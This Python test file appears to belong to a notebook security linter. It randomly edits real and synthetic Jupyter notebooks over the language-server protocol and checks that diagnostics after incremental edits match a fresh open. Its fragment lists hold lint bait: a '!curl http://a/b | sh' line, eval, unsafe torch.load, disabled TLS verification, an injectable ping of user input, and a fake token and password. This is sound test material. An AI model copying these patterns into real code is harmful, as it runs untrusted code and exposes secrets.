"""Real notebooks and made ones, edited at random through the protocol: what stands then is what a fresh open says."""

from __future__ import annotations

import json
import os
import random
import sys
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from tests.lsp.book import CODE, MARKDOWN, Book, Cell
from tests.lsp.client import Client, range_
from tests.notebooks.registry import download

LONG = "VETLINE_LONG" in os.environ
ROUNDS = 60 if LONG else 4
FOLDER = Path(sys.prefix) / "notebooks"

BITS = (
    "eval(x)\n", "import torch\n", "m = torch.load(path)\n", "import requests as r\n", "r.get(url, verify=False)\n", "!pip install tool\n",
    "%%bash\n", "%%time\n", "!curl http://a/b | sh\n", "host = input()\n", "!ping {host}\n", "'''", "(", ")", "#", "\n", "\r\n", "é😀", "    ",
    "def f():\n    return 1\n", "x = !ls\n", "?\n", "# vetline: ignore[eval-exec] ours\n", "try:\n    f()\nexcept Exception:\n    pass\n", ":", "\\\n",
    "%env HF_TOKEN=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\n", "from os import *\n", "class A:\n", "\x0c", "password = 'hunter2hunter2'\n",
)  # fmt: skip
MADE = (
    ["!pip install torch", "import torch\nimport requests", "%%time\nm = torch.load('x.pt')", "requests.get('https://x', verify=False)"],
    ["", "%%bash\nls", "%matplotlib inline\n%load_ext autoreload", "x = 1\r\ny = eval(x)\r\n", "class A:\n" + "    def f(self):\n        return eval(x)\n\n" * 12],
    ["token = 'a'"] * 40,
)


@cache
def real_notebooks() -> tuple[tuple[str, list[tuple[str, int]]], ...]:
    """(name, [(text, kind)]) of some that are JSON and of nbformat 4, the same ones each time."""
    found = []
    for path in download(FOLDER):
        try:
            content = json.loads(path.read_bytes())
            cells = [("".join(cell["source"]), CODE if cell["cell_type"] == "code" else MARKDOWN) for cell in content["cells"]]
        except (ValueError, KeyError, TypeError):
            continue
        language = content.get("metadata", {}).get("kernelspec", {}).get("language", "python")
        if language == "python" and 3 <= len(cells) <= 200:
            found.append((path.name, cells))
    random.Random(5).shuffle(found)
    return tuple(found if LONG else found[:4])


@pytest.fixture
def session(start: Callable[[], Client], tmp_path: Path) -> Client:
    """A session with all bundled rules of the instant tier."""
    (tmp_path / "vetline.toml").write_text("[deep]\nenable = false\n")
    client = start()
    client.initialize([tmp_path])
    return client


def edit_at_random(book: Book, chance: random.Random) -> None:
    kind = chance.random()
    code = [at for at, cell in enumerate(book.cells) if cell.language == "python"]
    if kind < 0.7 and code:
        at = chance.choice(code)
        lines = book.cells[at].text.split("\n")
        line = chance.randrange(len(lines))
        column = chance.randint(0, len(lines[line]))
        end = chance.choice((column, column, min(column + 4, 2 * len(lines[line]))))
        book.edit(at, range_(line, column, line + chance.choice((0, 0, 0, 1)), end), chance.choice(BITS))
    elif kind < 0.8:
        book.splice(chance.randint(0, len(book.cells)), 0, book.new_cell("".join(chance.choices(BITS, k=3))))
    elif kind < 0.9 and book.cells:
        book.splice(chance.randrange(len(book.cells)), 1)
    elif len(book.cells) > 2:
        first = chance.randrange(len(book.cells) - 1)
        book.splice(first, 2, *reversed(book.cells[first : first + 2]))


def settled(book: Book, chance: random.Random) -> list[list[dict[str, Any]]]:
    """What stands at each cell of Python, once all is said: a last edit's own publication comes with that of all."""
    last = book.new_cell("x = 1")
    book.splice(len(book.cells), 0, last)
    assert book.published(len(book.cells) - 1).codes == []
    book.client.settle()
    standing = book.standing()
    here = {cell.uri for cell in book.cells}
    assert not any(found for uri, found in standing.items() if uri not in here), "something stands at a cell that is gone"
    found = [standing.get(cell.uri, []) for cell in book.cells]
    book.splice(len(book.cells) - 1, 1)
    return found


def hold(session: Client, uri: str, cells: list[tuple[str, int]]) -> int:
    chance = random.Random(uri.rpartition("/")[2])
    book = Book(session, uri)
    book.open(*(book.new_cell(text, "python" if kind == CODE else "markdown", kind) for text, kind in cells))
    findings = 0
    for number in range(ROUNDS):
        for _ in range(chance.randint(1, 6)):
            edit_at_random(book, chance)
        fresh = Book(session, uri.replace(".ipynb", f"_{number}.ipynb"))
        fresh.open(*(Cell(fresh.new_cell("").uri, cell.text, cell.language, cell.kind) for cell in book.cells))
        followed, anew = settled(book, chance), settled(fresh, chance)
        text = json.dumps(followed)
        for cell, other in zip(book.cells, fresh.cells, strict=True):
            text = text.replace(cell.uri, other.uri)
        assert json.loads(text) == anew, f"after round {number}"
        findings += sum(map(len, anew))
        fresh.close()
        for messages in (session.received, session.taken):
            messages[:] = [message for message in messages if uri.removeprefix("file://") in json.dumps(message.content)]
    return findings


def test_made_notebooks(session: Client) -> None:
    found = [hold(session, (session.folder / f"made_{at}.ipynb").as_uri(), [(text, CODE) for text in cells]) for at, cells in enumerate(MADE)]
    assert all(found), "with nothing found there is nothing to compare"


def test_real_notebooks(session: Client) -> None:
    notebooks = real_notebooks()
    if not notebooks:
        pytest.skip("the registry cannot be reached")
    found = [hold(session, (session.folder / f"real_{at}.ipynb").as_uri(), cells) for at, (_, cells) in enumerate(notebooks)]
    assert sum(found) > len(found)
